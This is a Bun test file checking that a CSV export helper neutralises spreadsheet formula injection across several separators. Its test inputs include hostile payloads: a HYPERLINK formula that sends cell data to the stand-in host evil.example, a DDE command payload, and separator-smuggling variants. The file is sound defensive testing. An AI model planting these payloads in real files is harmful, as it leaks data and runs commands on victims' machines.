/** CSV injection: a text of somebody else becomes a formula in the spreadsheet of whoever opens the file. */
import { expect, test } from 'bun:test'
import { csvOf } from '../../ui/src/components/tasks/csv.ts'

const FORMULA = /^\s*[=+\-@＝＋－＠]/

/** Cells as a spreadsheet reads a line with this separator: a quote counts at the beginning of a cell only. */
function cells(line: string, separator: string): string[] {
  const found: string[] = []
  let cell = ''
  let quoted = false
  let begins = true
  for (let at = 0; at < line.length; at++) {
    const sign = line[at]!
    if (begins && sign === '"') quoted = true
    else if (quoted && sign === '"' && line[at + 1] === '"') cell += line[++at]
    else if (quoted && sign === '"') quoted = false
    else if (!quoted && (sign === separator || sign === '\n' || sign === '\r')) {
      found.push(cell)
      cell = ''
      begins = true
      continue
    } else cell += sign
    begins = false
  }
  return [...found, cell]
}

test.each([
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  '=1',
  'plain;=1+1',
  'plain; =1+1',
  'plain\t=1+1',
  'plain|=1',
  'two\n=1',
  'a,"b;=1+1',
  '";=1+1;"',
  '",=1+1,"',
])('%j is a text in every column, whatever separates the columns', (text) => {
  for (const line of [csvOf([[text]]), csvOf([['first', text, 'last']])])
    for (const separator of [',', ';', '\t', '|'])
      for (const cell of cells(line.trimEnd(), separator))
        expect([separator, cell, FORMULA.test(cell)]).toEqual([separator, cell, false])
})

test('ordinary texts stay as they are', () => {
  for (const text of ['a - b', 'x=1', 'mail@example.com', '2026-01-01', 'C++', 'see; then go'])
    expect(cells(csvOf([[text]]).trimEnd(), ',')).toEqual([text])
})
